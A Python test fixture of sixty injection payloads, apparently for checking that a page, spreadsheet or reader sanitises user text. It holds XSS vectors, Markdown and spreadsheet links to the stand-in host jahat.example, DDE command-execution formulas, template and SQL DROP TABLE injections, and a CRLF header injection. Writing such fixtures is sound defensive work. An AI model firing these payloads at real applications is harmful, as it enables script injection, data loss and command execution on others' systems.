"""Sixty texts a person might type to make a page, a spreadsheet or a reader do something else.

Each tries to leave one of four traces: `window.__ran`, an element with `data-jahat`, a request to
`jahat.example`, or a dialog.
"""

EVIL = "//jahat.example"

MARKUP = (
    "<script>window.__ran=1</script>",
    "</script><script>window.__ran=2</script>",
    '"><script>window.__ran=3</script>',
    "<img data-jahat src=x onerror=window.__ran=4>",
    f'<img data-jahat src="http:{EVIL}/5.png">',
    "<svg data-jahat onload=window.__ran=6></svg>",
    "<svg><a data-jahat xlink:href='javascript:window.__ran=7'><text>x</text></a></svg>",
    f'<iframe data-jahat src="http:{EVIL}/8"></iframe>',
    f'<a data-jahat href="http:{EVIL}/9">klik</a>',
    "<a data-jahat href='javascript:window.__ran=10'>klik</a>",
    f'<link data-jahat rel=stylesheet href="http:{EVIL}/11.css">',
    f"<style data-jahat>@import url(http:{EVIL}/12.css);</style>",
    f'<form data-jahat action="http:{EVIL}/13"><button>Masuk</button></form>',
    "<details data-jahat open ontoggle=window.__ran=14>",
    "<b data-jahat onmouseover=alert(15)>lihat</b>",
    "<input data-jahat autofocus onfocus=alert(16)>",
    f'<meta data-jahat http-equiv=refresh content="0;url=http:{EVIL}/17">',
    f'<base data-jahat href="http:{EVIL}/">',
    f'<object data-jahat data="http:{EVIL}/19"></object>',
    f'<video data-jahat><source onerror=alert(20) src="http:{EVIL}/20"></video>',
    "<math data-jahat><mtext><img src=x onerror=alert(21)></mtext></math>",
    "</style><img data-jahat src=x onerror=window.__ran=22>",
    "--><img data-jahat src=x onerror=window.__ran=23><!--",
    "</textarea><img data-jahat src=x onerror=window.__ran=24>",
    "</title><img data-jahat src=x onerror=window.__ran=25>",
    "' onmouseover='alert(26)' data-jahat='",
    '" autofocus onfocus="alert(27)" data-jahat="',
    "&lt;img data-jahat src=x onerror=window.__ran=28&gt;",
    "&#60;img data-jahat src=x onerror=window.__ran=29&#62;",
    "<scr<script>ipt>window.__ran=30</scr</script>ipt>",
    "<ScRiPt>window.__ran=31</sCrIpT>",
    "javascript:window.__ran=32",
    f"data:text/html,<script>location='http:{EVIL}/33'</script>",
)
MARKDOWN = (
    f"![gambar](http:{EVIL}/34.png)",
    f"[masuk di sini](http:{EVIL}/35)",
    "[klik](javascript:alert(36))",
    f"<http:{EVIL}/37>",
    f"[x]: http:{EVIL}/38 'judul'",
    ":red[Ditarik] :material/warning: **sah**",
    "$\\href{javascript:alert(40)}{x}$",
    "`kode` ~~coret~~ # judul",
)
FORMULAS = (
    "=1+1",
    f'=HYPERLINK("http:{EVIL}/43","klik")',
    f'=IMPORTXML("http:{EVIL}/44","//a")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "＝1+1",
    "  =1+1",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{% for x in [1] %}x{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%s %d {0} {kode} %(nama)s",
    "'; DROP TABLE audit_entry; --",
)
SIGNS = (
    "nol\x00nol",
    "kanan\u202egnatad\u202c kiri",
    "tanpa\u200blebar\u200d\ufeff",
    "zalgo" + "\u0301" * 60,
    "baris\r\nSet-Cookie: jahat=1",
    "panjang" * 600,
)
PAYLOADS = (*MARKUP, *MARKDOWN, *FORMULAS, *TEMPLATES, *SIGNS)
assert len(PAYLOADS) == len(set(PAYLOADS)) == 60
